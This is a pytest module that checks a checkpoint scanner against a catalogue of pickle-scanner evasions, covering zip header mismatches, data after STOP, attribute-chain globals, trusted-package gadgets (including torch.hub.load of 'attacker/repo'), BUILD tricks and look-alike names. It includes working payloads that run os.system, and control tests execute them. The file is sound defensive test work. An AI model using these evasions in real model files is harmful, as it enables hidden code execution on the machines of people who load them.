"""The known ways past pickle scanners, each flagged by ckpt.unsafe-pickle and none run (issue 8).

Every payload is assembled at test time from opcode bytes (or from `pickle.dumps` of an object whose
`__reduce_ex__` names the call) and would create a marker file if it were unpickled. The library
inspects each file with `--deep` and `--hash`; the marker must never appear. Where it makes sense a
control test proves the payload is live: the same bytes unpickled (or `torch.load`ed with
`weights_only=False`) in a child process do create the marker. The controls share one child (one torch
import, see `controls` at the end); each control has its own marker, and its test fails when that
marker is missing.

The classes, after picklescan's, modelscan's and fickling's advisories and issues (see
`shared/research/checkpoint-anchors.md`): pickles in zip members a scanner does not read (non-.pkl
names, an upper-case DATA.PKL that torch still finds, local headers that disagree with the central
directory, bytes no central entry covers, a deflated or "encrypted" data.pkl that `zipfile` refuses
but torch reads), a second pickle after STOP, files whose first bytes pass for another format,
torch's legacy tar format, globals reached through getattr / attrgetter / methodcaller chains,
gadgets in trusted packages (pip, `torch.utils.collect_env.run`, `torch.load`), BUILD and
`__setstate__` tricks, INST / OBJ / NEWOBJ_EX, the copyreg extension opcodes and globals spelled
with look-alike characters, NUL, spaces or dotted attribute paths.
"""

from __future__ import annotations

import importlib.util
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Dict, List, Optional, Sequence, Tuple

import pytest

from diagnostics.findings import Status
from diagnostics.probes.checkpoint import inspect_checkpoint
from diagnostics.rules.checkpoint import rule_corrupt, rule_unsafe_pickle, rule_weights_only
from tests import ckpt_factory as f

ROOT = Path(__file__).resolve().parents[1]
u = f._unicode  # BINUNICODE opcode with its operand


# ---------------------------------------------------------------- helpers

def inspect(path: Path, tmp_path: Path) -> Dict:
    return inspect_checkpoint(str(path), deep=True, want_hash=True, environ={"LDM_DIAG_CACHE_DIR": str(tmp_path)})


def assert_flagged(facts: Dict, names: Sequence[str], member: Optional[str] = None) -> None:
    """Unsafe, blocking, every name reported and called obviously dangerous; `member`: where it was found."""
    assert facts["safe"] is False
    finding = rule_unsafe_pickle(facts)
    assert finding.status is Status.FAIL and finding.blocking, finding.summary
    assert "Do not load" in finding.fix
    for name in names:
        assert name in facts["unsafe_globals"], (name, facts["unsafe_globals"])
        assert name in finding.evidence["dangerous_globals"], (name, finding.evidence["dangerous_globals"])
    if member is not None:
        assert facts["pickle"]["where"][names[0]]["member"] == member, facts["pickle"]["where"]
    wo = rule_weights_only(facts, "2.6.0", {})
    assert "add_safe_globals(" not in wo.fix  # never advise allowlisting code


UNPICKLE = "import pickle, sys; pickle.loads(open(sys.argv[1], 'rb').read())"
TORCH_LOAD = "import sys, torch; torch.load(sys.argv[1], weights_only=False)"


def system(marker: Path) -> bytes:
    """Protocol-2 opcodes (no PROTO, no STOP) for os.system('touch <marker>')."""
    return f.call_p2("os", "system", f.marker_shell(marker))


def short(text: str) -> bytes:
    data = text.encode("utf-8")
    return b"\x8c" + bytes([len(data)]) + data


@pytest.fixture(scope="module")
def members(tmp_path_factory) -> List[Tuple[str, bytes]]:
    """(name, bytes) of a real torch zip holding two tensors, in file order."""
    torch = pytest.importorskip("torch")
    path = tmp_path_factory.mktemp("src") / "real.ckpt"
    torch.save({"state_dict": {"model.diffusion_model.input_blocks.0.0.weight": torch.randn(32, 4, 3, 3),
                               "first_stage_model.encoder.conv_in.weight": torch.randn(32, 3, 3, 3)},
                "global_step": 1}, str(path))
    with zipfile.ZipFile(str(path)) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def with_payload(data_pkl: bytes, ops: bytes) -> bytes:
    return f.inject_into_data_pkl(data_pkl, ops)


def hand_zip(entries: Sequence[Dict], gap_after: Optional[Dict[int, bytes]] = None) -> bytes:
    """A zip written byte by byte, so that local headers can say what the central directory does not.

    Each entry: name, data, and optionally local_name, local_size (compressed size claimed locally),
    method (0 stored, 8 deflated), flags. `gap_after[i]`: bytes placed after entry i's data that no
    central entry covers.
    """
    out = bytearray()
    central = bytearray()
    for i, e in enumerate(entries):
        raw, method = e["data"], e.get("method", 0)
        body = raw if method == 0 else _deflate(raw)
        crc = zlib.crc32(raw) & 0xFFFFFFFF
        name = e["name"].encode()
        local_name = e.get("local_name", e["name"]).encode()
        flags = e.get("flags", 0)
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0x21, crc,
                           e.get("local_size", len(body)), len(raw), len(local_name), 0) + local_name + body
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, method, 0, 0x21, crc, len(body),
                               len(raw), len(name), 0, 0, 0, 0, 0, offset) + name
        out += (gap_after or {}).get(i, b"")
    start = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), start, 0)
    return bytes(out)


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def entries_of(members: List[Tuple[str, bytes]], replace: Optional[Dict[str, bytes]] = None) -> List[Dict]:
    return [{"name": n, "data": (replace or {}).get(n.split("/", 1)[1], d)} for n, d in members]


# ---------------------------------------------------------------- zip: what torch reads, what scanners read

@pytest.mark.parametrize("where", ["extra.bin", "data/99", ".data/serialization_id", "data/0"])
def test_a_pickle_in_a_member_with_another_name_is_flagged(tmp_path, members, where):
    """picklescan read only members named *.pkl (CVE-2025-1889 / -10155): names torch reads as bytes or text."""
    marker = tmp_path / "marker"
    root = members[0][0].split("/", 1)[0]
    payload = f.pickle_p2("os", "system", f.marker_shell(marker))
    entries = entries_of(members)
    name = f"{root}/{where}"
    if any(e["name"] == name for e in entries):
        old = next(e for e in entries if e["name"] == name)
        old["data"] = payload + b"\x00" * max(0, len(old["data"]) - len(payload))  # the tensor's bytes replaced
    else:
        entries.append({"name": name, "data": payload})
    path = f.write_bytes(tmp_path / "evil.ckpt", hand_zip(entries))
    facts = inspect(path, tmp_path)
    assert facts["format"] == "torch-zip" and facts["components"]["unet"]["tensors"] == 1
    assert_flagged(facts, ["os.system"], member=name)
    assert any(a["kind"] == "pickle-in-member" and name in a["members"] for a in facts["container"]["anomalies"])
    assert rule_corrupt(facts).status is Status.FAIL
    assert not marker.exists()


def test_control_the_member_pickle_is_live_when_unpickled(controls):
    assert_live(controls, "member-pickle")


def evil_zip(members, marker: Path, **entry) -> bytes:
    entries = entries_of(members, {"data.pkl": with_payload(dict(members)[members[0][0]], system(marker))})
    entries[0].update(entry)
    return hand_zip(entries)


@pytest.mark.parametrize("method", [0, 8], ids=["stored", "deflated"])
def test_data_pkl_whose_local_name_differs_from_the_central_one(tmp_path, members, method):
    """zipfile refuses the member (BadZipFile), torch does not compare the names (CVE-2025-1944)."""
    marker = tmp_path / "marker"
    path = f.write_bytes(tmp_path / "evil.ckpt", evil_zip(members, marker, method=method,
                                                          local_name=members[0][0].replace("data.pkl", "nope.bin")))
    facts = inspect(path, tmp_path)
    assert_flagged(facts, ["os.system"], member=members[0][0])
    assert any(a["kind"] == "local-name-mismatch" for a in facts["container"]["anomalies"])
    assert not marker.exists()


def test_control_torch_loads_a_data_pkl_whose_local_name_differs(members, controls):
    assert_live(controls, "local-name-differs")


@pytest.mark.parametrize("flag", [0x1, 0x20, 0x40], ids=["encrypted", "patched", "strong-encryption"])
def test_flag_bits_on_data_pkl_do_not_stop_the_scan(tmp_path, members, flag):
    """A scanner that trusts the encryption bits skips the member (CVE-2025-1945); its bytes are read all the same."""
    marker = tmp_path / "marker"
    path = f.write_bytes(tmp_path / "evil.ckpt", evil_zip(members, marker, method=8, flags=flag))
    facts = inspect(path, tmp_path)
    assert_flagged(facts, ["os.system"], member=members[0][0])
    assert not marker.exists()


def test_data_pkl_named_in_upper_case_is_the_one_torch_loads(tmp_path, members):
    """torch looks members up case-insensitively: a scanner matching 'data.pkl' exactly sees no pickle at all."""
    marker = tmp_path / "marker"
    entries = entries_of(members, {"data.pkl": with_payload(dict(members)[members[0][0]], system(marker))})
    entries[0]["name"] = entries[0]["name"].replace("data.pkl", "DATA.PKL")
    path = f.write_bytes(tmp_path / "evil.ckpt", hand_zip(entries))
    facts = inspect(path, tmp_path)
    assert facts["format"] == "torch-zip" and facts["tensors_total"] == 2
    assert_flagged(facts, ["os.system"], member=entries[0]["name"])
    assert not marker.exists()


def test_control_torch_loads_an_upper_case_data_pkl(members, controls):
    assert_live(controls, "upper-case-data-pkl")


def test_local_header_that_claims_more_bytes_than_the_central_directory(tmp_path, members):
    """A streaming reader takes the local size and finds a second pickle after the clean one."""
    marker = tmp_path / "marker"
    clean = dict(members)[members[0][0]]
    entries = entries_of(members)
    tail = f.pickle_p2("os", "system", f.marker_shell(marker))
    entries[0]["local_size"] = len(clean) + len(tail)
    path = f.write_bytes(tmp_path / "evil.ckpt", hand_zip(entries, gap_after={0: tail}))
    facts = inspect(path, tmp_path)
    assert_flagged(facts, ["os.system"])
    kinds = {a["kind"] for a in facts["container"]["anomalies"]}
    assert {"local-size-mismatch", "hidden-bytes"} <= kinds
    assert not marker.exists()


def test_member_hidden_from_the_central_directory(tmp_path, members):
    """A complete local member that only a streaming extractor sees (no central entry points at it)."""
    marker = tmp_path / "marker"
    payload = f.pickle_p2("os", "system", f.marker_shell(marker))
    hidden = hand_zip([{"name": "archive/data.pkl", "data": payload}])
    hidden = hidden[:hidden.index(b"PK\x01\x02")]  # its local header and data only
    path = f.write_bytes(tmp_path / "evil.ckpt", hand_zip(entries_of(members), gap_after={0: hidden}))
    facts = inspect(path, tmp_path)
    assert_flagged(facts, ["os.system"])
    assert "not in the central directory" in facts["pickle"]["where"]["os.system"]["member"]
    assert any(a["kind"] == "hidden-bytes" for a in facts["container"]["anomalies"])
    assert not marker.exists()


@pytest.mark.parametrize("order", ["clean-first", "evil-first"])
def test_duplicated_data_pkl_both_copies_are_read(tmp_path, members, order):
    marker = tmp_path / "marker"
    clean = entries_of(members)
    evil = dict(clean[0], data=with_payload(clean[0]["data"], system(marker)))
    entries = [clean[0], evil] + clean[1:] if order == "clean-first" else [evil] + clean
    facts = inspect(f.write_bytes(tmp_path / "evil.ckpt", hand_zip(entries)), tmp_path)
    assert_flagged(facts, ["os.system"])
    assert any(a["kind"] == "duplicate-members" for a in facts["container"]["anomalies"])
    assert not marker.exists()


# ---------------------------------------------------------------- a second pickle after STOP

def test_second_pickle_after_stop_in_data_pkl(tmp_path, members):
    marker = tmp_path / "marker"
    entries = entries_of(members)
    entries[0]["data"] += f.pickle_p2("os", "system", f.marker_shell(marker))
    facts = inspect(f.write_bytes(tmp_path / "evil.ckpt", hand_zip(entries)), tmp_path)
    assert_flagged(facts, ["os.system"])
    assert "after the first STOP" in facts["pickle"]["where"]["os.system"]["member"]
    assert any(a["kind"] == "data-after-stop" for a in facts["pickle"]["anomalies"])
    assert facts["tensors_total"] == 2  # the checkpoint itself is still read
    assert not marker.exists()


def test_second_pickle_after_stop_in_a_plain_pickle(tmp_path):
    marker = tmp_path / "marker"
    data = b"\x80\x02}q\x00." + b"\x80\x02N." * 10 + f.pickle_p2("os", "system", f.marker_shell(marker))
    facts = inspect(f.write_bytes(tmp_path / "model.ckpt", data), tmp_path)
    assert_flagged(facts, ["os.system"])
    assert facts["container"]["trailing_pickles"] == 11
    assert not marker.exists()


def test_control_a_loader_that_reads_on_runs_the_second_pickle(controls):
    assert_live(controls, "reads-on")


# ---------------------------------------------------------------- first bytes that pass for something else

def disguised(marker: Path) -> Dict[str, bytes]:
    cmd = f.marker_shell(marker)
    return {
        # byte 8 is '{': sniffed as a safetensors header (whose length is absurd), unpickled by torch.load
        "brace-at-byte-8": b"\x80\x02X\x02\x00\x00\x00a{0" + system(marker) + b".",
        # no PROTO, first opcode SHORT_BINUNICODE: no signature a sniffer knows
        "no-proto": short("os") + short("system") + b"\x93" + short(cmd) + b"\x85R.",
        # the call comes after a 5000-byte string: not in the first 4096 bytes a sniffer looks at
        "late-call": b"X" + struct.pack("<I", 5000) + b"a" * 5000 + b"0" + system(marker) + b".",
        "late-call-text": b"S'" + b"a" * 5000 + b"'\n0cos\nsystem\n(S'" + cmd.encode() + b"'\ntR.",
    }


@pytest.mark.parametrize("ext", [".ckpt", ".safetensors"])
@pytest.mark.parametrize("kind", ["brace-at-byte-8", "no-proto", "late-call", "late-call-text"])
def test_pickle_whose_first_bytes_pass_for_another_format(tmp_path, kind, ext):
    marker = tmp_path / "marker"
    facts = inspect(f.write_bytes(tmp_path / f"model{ext}", disguised(marker)[kind]), tmp_path)
    assert facts["format"] == "pickle"
    assert_flagged(facts, ["os.system"])
    assert not marker.exists()


@pytest.mark.parametrize("kind", ["brace-at-byte-8", "no-proto", "late-call", "late-call-text"])
def test_control_torch_load_unpickles_them(controls, kind):
    pytest.importorskip("torch")
    assert_live(controls, f"disguised:{kind}")


def test_real_safetensors_and_text_files_are_not_taken_for_pickles(tmp_path):
    """The widened sniffing leaves real headers alone, whatever their length bytes happen to be."""
    for length_byte in (0x28, 0x4B, 0x58, 0x63, 0x80, 0x8C):  # MARK, BININT1, BINUNICODE, GLOBAL, PROTO, ...
        header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
        header += b" " * (0x200 + length_byte - len(header))  # length bytes: <length_byte> 02 00 ...
        data = struct.pack("<Q", len(header)) + header + b"\x00" * 8
        facts = inspect_checkpoint(str(f.write_bytes(tmp_path / "ok.safetensors", data)))
        assert facts["format"] == "safetensors" and facts["readable"], (hex(length_byte), facts["problems"])
    for text in (b"could not find the file\nplease retry\n", b"Entry not found\n" * 300):
        facts = inspect_checkpoint(str(f.write_bytes(tmp_path / "notes.ckpt", text)))
        assert facts["format"] == "unknown" and facts["content"] == "text", facts["problems"]


# ---------------------------------------------------------------- legacy files and torch's legacy tar format

def test_pickle_after_the_last_storage_of_a_legacy_file(tmp_path):
    torch = pytest.importorskip("torch")
    marker = tmp_path / "marker"
    src = tmp_path / "legacy.pt"
    torch.save({"state_dict": {"first_stage_model.w": torch.ones(3)}}, str(src), _use_new_zipfile_serialization=False)
    path = f.write_bytes(tmp_path / "evil.pt", src.read_bytes() + f.pickle_p2("os", "system", f.marker_shell(marker)))
    facts = inspect(path, tmp_path)
    assert facts["format"] == "torch-legacy" and facts["components"]["vae"]["tensors"] == 1
    assert_flagged(facts, ["os.system"])
    assert not marker.exists()


def legacy_tar(marker: Path) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        payload = f.pickle_p2("os", "system", f.marker_shell(marker))  # `storages` is the first member torch unpickles
        for name, data in [("sys_info", b"\x80\x02}."), ("storages", payload), ("tensors", b"\x80\x02K\x00."),
                           ("pickle", b"\x80\x02}.")]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def test_legacy_tar_format_is_read_as_the_pickles_it_holds(tmp_path):
    """torch < 0.4 wrote a tar of pickles; torch.load(weights_only=False) still unpickles it."""
    marker = tmp_path / "marker"
    facts = inspect(f.write_bytes(tmp_path / "old.ckpt", legacy_tar(marker)), tmp_path)
    assert facts["format"] == "torch-legacy" and facts["container"]["kind"] == "legacy-tar"
    assert_flagged(facts, ["os.system"], member="storages")
    assert facts["weights_only"]["refused"]
    assert not marker.exists()


def test_control_torch_load_unpickles_a_legacy_tar(controls):
    pytest.importorskip("torch")
    assert_live(controls, "legacy-tar")


# ---------------------------------------------------------------- globals reached through attribute chains

def chains(marker: Path) -> Dict[str, Tuple[bytes, List[str]]]:
    cmd = f.marker_shell(marker)
    imp_os = b"cbuiltins\n__import__\n(" + u("os") + b"tR"
    return {
        "getattr(__import__('os'), 'system')":
            (b"\x80\x02cbuiltins\ngetattr\n(" + imp_os + u("system") + b"tR(" + u(cmd) + b"tR.",
             ["builtins.getattr", "builtins.__import__"]),
        "getattr via STACK_GLOBAL and the memo":
            (b"\x80\x04" + short("builtins") + b"\x94" + short("getattr") + b"\x94\x93\x94" + short("builtins")
             + short("__import__") + b"\x93" + short("os") + b"\x85R" + short("system") + b"\x86R"
             + short(cmd) + b"\x85R.", ["builtins.getattr", "builtins.__import__"]),
        "operator.attrgetter('system')(os)":
            (b"\x80\x02coperator\nattrgetter\n(" + u("system") + b"tR(" + imp_os + b"tR(" + u(cmd) + b"tR.",
             ["operator.attrgetter", "builtins.__import__"]),
        "operator.methodcaller('system', cmd)(os)":
            (b"\x80\x02coperator\nmethodcaller\n(" + u("system") + u(cmd) + b"tR(" + imp_os + b"tR.",
             ["operator.methodcaller", "builtins.__import__"]),
        "_operator.attrgetter (the C module)":
            (b"\x80\x02c_operator\nattrgetter\n(" + u("system") + b"tR(" + imp_os + b"tR(" + u(cmd) + b"tR.",
             ["_operator.attrgetter", "builtins.__import__"]),
        "getattr(importlib.import_module('os'), 'system')":
            (b"\x80\x02cbuiltins\ngetattr\n(cimportlib\nimport_module\n(" + u("os") + b"tR" + u("system")
             + b"tR(" + u(cmd) + b"tR.", ["builtins.getattr", "importlib.import_module"]),
    }


@pytest.mark.parametrize("name", sorted(chains(Path("m"))))
def test_globals_reached_through_attribute_chains(tmp_path, name):
    marker = tmp_path / "marker"
    data, expected = chains(marker)[name]
    facts = inspect(f.write_bytes(tmp_path / "model.ckpt", data), tmp_path)
    assert_flagged(facts, expected)
    assert not marker.exists()


@pytest.mark.parametrize("name", sorted(chains(Path("m"))))
def test_control_the_chains_are_live(controls, name):
    assert_live(controls, f"chain:{name}")


# ---------------------------------------------------------------- gadgets in trusted packages

def gadgets(marker: Path, inner: Path) -> Dict[str, Tuple[bytes, str]]:
    cmd = f.marker_shell(marker)
    return {
        "pip": (f.pickle_p2("pip._internal.cli.main", "main", "install", "--index-url", "http://127.0.0.1:9/", "x"),
                "pip._internal.cli.main.main"),
        "collect_env.run": (f.pickle_p2("torch.utils.collect_env", "run", cmd), "torch.utils.collect_env.run"),
        "torch.hub.load": (f.pickle_p2("torch.hub", "load", "attacker/repo", "model"), "torch.hub.load"),
        "torch.load": (f.pickle_p2("torch", "load", str(inner)), "torch.load"),
        "torch.storage._load_from_bytes": (b"\x80\x02ctorch.storage\n_load_from_bytes\n(C\x05abcdetR.",
                                           "torch.storage._load_from_bytes"),
        "pickle.loads": (b"\x80\x02cpickle\nloads\n(B" + struct.pack("<I", len(f.pickle_p2("os", "system", cmd)))
                         + f.pickle_p2("os", "system", cmd) + b"tR.", "pickle.loads"),
    }


@pytest.mark.parametrize("name", sorted(gadgets(Path("m"), Path("i"))))
def test_gadgets_in_trusted_packages(tmp_path, name):
    marker = tmp_path / "marker"
    data, expected = gadgets(marker, tmp_path / "inner.pkl")[name]
    facts = inspect(f.write_bytes(tmp_path / "model.ckpt", data), tmp_path)
    assert_flagged(facts, [expected])
    assert not marker.exists()


@pytest.mark.parametrize("name", ["collect_env.run", "pickle.loads"])
def test_control_the_gadgets_are_live(controls, name):
    if name == "collect_env.run":
        pytest.importorskip("torch")
    assert_live(controls, f"gadget:{name}")


# ---------------------------------------------------------------- BUILD, __setstate__, __reduce_ex__, INST, OBJ

def build_tricks(marker: Path) -> Dict[str, Tuple[bytes, List[str]]]:
    cmd = f.marker_shell(marker)
    od = b"ccollections\nOrderedDict\n)R"  # an instance of an allowlisted class
    return {
        # BUILD with a __setstate__ in the state: the next BUILD calls it (both BUILDs on one object)
        "__setstate__=os.system": (b"\x80\x02" + od + b"}" + u("__setstate__") + b"cos\nsystem\nsb" + u(cmd) + b"b.",
                                   ["os.system", "<BUILD sets __setstate__ on collections.OrderedDict>"]),
        # the same construct with only allowlisted globals: the construct itself is what is flagged
        "__setstate__=_codecs.encode": (b"\x80\x02" + od + b"}" + u("__setstate__") + b"c_codecs\nencode\nsb"
                                        + u("x") + b"b.", ["<BUILD sets __setstate__ on collections.OrderedDict>"]),
        # a callable stored as an attribute of an allowlisted object
        "attribute=callable": (b"\x80\x02" + od + b"}" + u("hook") + b"cbuiltins\nexec\nsb.",
                               ["builtins.exec", "<BUILD sets hook = builtins.exec on collections.OrderedDict>"]),
        # BUILD on the class itself sets attributes on the imported class (modelscan issue 85)
        "BUILD on an allowlisted class": (b"\x80\x02ccollections\nOrderedDict\n}" + u("__reduce__") + b"K\x01sb.",
                                          ["<BUILD on collections.OrderedDict>"]),
        "INST (protocol 0)": (b"(S'" + cmd.encode() + b"'\nios\nsystem\n.", ["os.system"]),
        "OBJ (protocol 1)": (b"(cos\nsystem\nS'" + cmd.encode() + b"'\no.", ["os.system"]),
        "NEWOBJ_EX (protocol 4)": (b"\x80\x04" + short("subprocess") + short("Popen") + b"\x93(" + short("sh")
                                   + short("-c") + short(cmd) + b"l\x85}\x92.", ["subprocess.Popen"]),
    }


@pytest.mark.parametrize("name", sorted(build_tricks(Path("m"))))
def test_build_and_setstate_tricks(tmp_path, name):
    marker = tmp_path / "marker"
    data, expected = build_tricks(marker)[name]
    facts = inspect(f.write_bytes(tmp_path / "model.ckpt", data), tmp_path)
    assert_flagged(facts, expected)
    assert not marker.exists()


@pytest.mark.parametrize("name", ["__setstate__=os.system", "INST (protocol 0)", "OBJ (protocol 1)"])
def test_control_the_build_tricks_are_live(controls, name):
    assert_live(controls, f"build:{name}")


class _Reduced:
    """An object whose pickle calls os.system: dumping it only records the call, nothing runs."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce_ex__(self, protocol):
        return (os.system, (self.cmd,))


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_reduce_ex_objects_of_every_protocol(tmp_path, protocol):
    marker = tmp_path / "marker"
    data = pickle.dumps({"state_dict": {}, "x": _Reduced(f.marker_shell(marker))}, protocol=protocol)
    facts = inspect(f.write_bytes(tmp_path / "model.ckpt", data), tmp_path)
    assert_flagged(facts, [f"{os.system.__module__}.system"])
    assert not marker.exists()


def test_control_a_reduce_ex_pickle_is_live(controls):
    assert_live(controls, "reduce-ex")


# ---------------------------------------------------------------- the copyreg extension registry

EXTENSIONS = {"EXT1": b"\x82\xf0", "EXT2": b"\x83\x00\x01", "EXT4": b"\x84\x00\x00\x01\x00"}
CODES = {"EXT1": 0xF0, "EXT2": 0x100, "EXT4": 0x10000}


@pytest.mark.parametrize("op", sorted(EXTENSIONS))
def test_extension_registry_opcodes(tmp_path, op):
    """EXT1/2/4 name a global by number through copyreg's registry: no module name for a scanner to match."""
    marker = tmp_path / "marker"
    data = b"\x80\x02" + EXTENSIONS[op] + b"(" + u(f.marker_shell(marker)) + b"tR."
    facts = inspect(f.write_bytes(tmp_path / "model.ckpt", data), tmp_path)
    assert_flagged(facts, [f"copyreg.extension[{CODES[op]}]"])
    assert not marker.exists()


def test_control_an_extension_code_is_live_once_registered(controls):
    assert_live(controls, "extension")


# ---------------------------------------------------------------- globals spelled to look like others

SPELLINGS = {
    "cyrillic-o": (("\u043es", "system"), "\\u043es.system"),
    "fullwidth": (("\uff4f\uff53", "system"), "\\uff4f\\uff53.system"),
    "nul": (("os\x00", "system"), "os\\x00.system"),
    "space": (("os ", "system"), "os .system"),
    "tab-in-name": (("os", "sys\ttem"), "os.sys\\ttem"),
    "dotted-allowlisted-path": (("torch", "_utils._rebuild_tensor_v2"), "torch:_utils._rebuild_tensor_v2"),
    "dotted-to-os": (("torch", "serialization.os.system"), "torch:serialization.os.system"),
}


def spelled(module: str, name: str, marker: Path) -> bytes:
    return b"\x80\x04" + short(module) + short(name) + b"\x93" + short(f.marker_shell(marker)) + b"\x85R."


@pytest.mark.parametrize("kind", sorted(SPELLINGS))
def test_globals_spelled_with_look_alikes_nul_spaces_or_dots(tmp_path, kind):
    marker = tmp_path / "marker"
    (module, name), reported = SPELLINGS[kind]
    facts = inspect(f.write_bytes(tmp_path / "model.ckpt", spelled(module, name, marker)), tmp_path)
    assert_flagged(facts, [reported])
    assert all(n.isascii() and n.isprintable() for n in facts["unsafe_globals"])  # nothing hides in the report
    assert not marker.exists()


def test_control_a_dotted_path_reaches_os_system(controls):
    pytest.importorskip("torch")
    assert_live(controls, "dotted-path")


# ---------------------------------------------------------------- the extra reads raise no false alarm

def test_real_ldm_checkpoints_raise_no_false_alarm(tmp_path):
    """Lightning-wrapped ldm checkpoints with optimizer states: safe, no anomaly, nothing unverified."""
    pytest.importorskip("torch")
    f.require_ldm()
    sd = f.ldm_state_dict()
    ckpt = f.lightning_checkpoint(sd, optimizer=True)
    for path in (f.save_zip(ckpt, tmp_path / "model.ckpt"), f.save_legacy(ckpt, tmp_path / "model.pt")):
        facts = inspect(path, tmp_path)
        assert facts["safe"] is True and facts["unsafe_globals"] == [], path
        assert not facts["pickle"]["unverified"] and not facts["pickle"]["anomalies"], facts["pickle"]
        assert not facts["container"].get("anomalies"), facts["container"]
        assert facts["problems"] == [] and rule_corrupt(facts).status is Status.OK, facts["problems"]
        assert facts["tensors_total"] == len(sd)
        assert facts["training"]["optimizer_states"]["tensors"] == 6


# ---------------------------------------------------------------- the controls, all in one child process

REGISTER_EXT2 = "import copyreg\ncopyreg.add_extension('os', 'system', 0x100)\n"
READ_ON = "import pickle, sys\nwith open(sys.argv[1], 'rb') as fh:\n    pickle.load(fh); pickle.load(fh)"

# Runs each control's code with sys.argv[1] set to its file, as `python -c CODE FILE` would; a control
# that raises is recorded (its marker is then what decides its test), the next one runs all the same.
CONTROL_CHILD = """
import json, sys, traceback
plan, out = sys.argv[1], sys.argv[2]
errors = {}
for name, code, path in json.load(open(plan)):
    sys.argv = ["-c", path]
    try:
        exec(compile(code, "<control %s>" % name, "exec"), {"__name__": "__main__"})
    except BaseException:
        errors[name] = traceback.format_exc(limit=4)
with open(out, "w") as fh:
    json.dump(errors, fh)
"""


def control_plan(root: Path, members: Optional[List[Tuple[str, bytes]]]) -> List[Tuple[str, str, Path, Path]]:
    """(name, code, file, marker) of every control; the torch ones only where torch is installed.

    The controls that need no torch come first, so that they run before anything imported it.
    """
    plan: List[Tuple[str, str, Path, Path]] = []

    def add(name: str, code: str, file_name: str, make) -> None:
        folder = root / f"control-{len(plan)}"
        folder.mkdir()
        marker = folder / "marker"
        plan.append((name, code, f.write_bytes(folder / file_name, make(marker, folder)), marker))

    add("member-pickle", UNPICKLE, "member.bin", lambda m, d: f.pickle_p2("os", "system", f.marker_shell(m)))
    add("reads-on", READ_ON, "model.pkl",
        lambda m, d: b"\x80\x02}q\x00." + f.pickle_p2("os", "system", f.marker_shell(m)))
    for name in sorted(chains(Path("m"))):
        add(f"chain:{name}", UNPICKLE, "model.pkl", lambda m, d, name=name: chains(m)[name][0])
    add("gadget:pickle.loads", UNPICKLE, "model.pkl", lambda m, d: gadgets(m, d / "inner.pkl")["pickle.loads"][0])
    for name in ["__setstate__=os.system", "INST (protocol 0)", "OBJ (protocol 1)"]:
        add(f"build:{name}", UNPICKLE, "model.pkl", lambda m, d, name=name: build_tricks(m)[name][0])
    add("reduce-ex", UNPICKLE, "model.pkl", lambda m, d: pickle.dumps(_Reduced(f.marker_shell(m)), 2))
    add("extension", REGISTER_EXT2 + UNPICKLE, "model.pkl",
        lambda m, d: b"\x80\x02" + EXTENSIONS["EXT2"] + b"(" + u(f.marker_shell(m)) + b"tR.")
    if members is None:
        return plan
    local_name = members[0][0].replace("data.pkl", "nope.bin")
    add("local-name-differs", TORCH_LOAD, "evil.ckpt",
        lambda m, d: evil_zip(members, m, method=8, local_name=local_name))

    def upper_case(m: Path, d: Path) -> bytes:
        entries = entries_of(members, {"data.pkl": with_payload(dict(members)[members[0][0]], system(m))})
        entries[0]["name"] = entries[0]["name"].replace("data.pkl", "DATA.PKL")
        return hand_zip(entries)

    add("upper-case-data-pkl", TORCH_LOAD, "evil.ckpt", upper_case)
    for kind in ["brace-at-byte-8", "no-proto", "late-call", "late-call-text"]:
        add(f"disguised:{kind}", TORCH_LOAD, "model.ckpt", lambda m, d, kind=kind: disguised(m)[kind])
    add("legacy-tar", TORCH_LOAD, "old.ckpt", lambda m, d: legacy_tar(m))
    add("gadget:collect_env.run", UNPICKLE, "model.pkl",
        lambda m, d: gadgets(m, d / "inner.pkl")["collect_env.run"][0])
    add("dotted-path", UNPICKLE, "model.pkl", lambda m, d: spelled("torch", "serialization.os.system", m))
    return plan


@pytest.fixture(scope="module")
def controls(request, tmp_path_factory) -> Dict[str, Tuple[Path, str]]:
    """control name -> (its marker, what went wrong in the child): every control run in one child."""
    root = tmp_path_factory.mktemp("controls")
    members = request.getfixturevalue("members") if importlib.util.find_spec("torch") is not None else None
    plan = control_plan(root, members)
    (root / "plan.json").write_text(json.dumps([(name, code, str(path)) for name, code, path, _ in plan]))
    proc = subprocess.run([sys.executable, "-c", CONTROL_CHILD, str(root / "plan.json"), str(root / "errors.json")],
                          capture_output=True, text=True, timeout=300)
    if (root / "errors.json").is_file():
        errors = json.loads((root / "errors.json").read_text())
        return {name: (marker, errors.get(name, "its code ran without an error")) for name, _, _, marker in plan}
    child = f"the controls' child exited with {proc.returncode}: {proc.stderr[-2000:]}"
    return {name: (marker, child) for name, _, _, marker in plan}


def assert_live(controls: Dict[str, Tuple[Path, str]], name: str) -> None:
    """The control's payload ran: its marker exists."""
    marker, error = controls[name]
    assert marker.exists(), f"{name}: no marker; {error}"
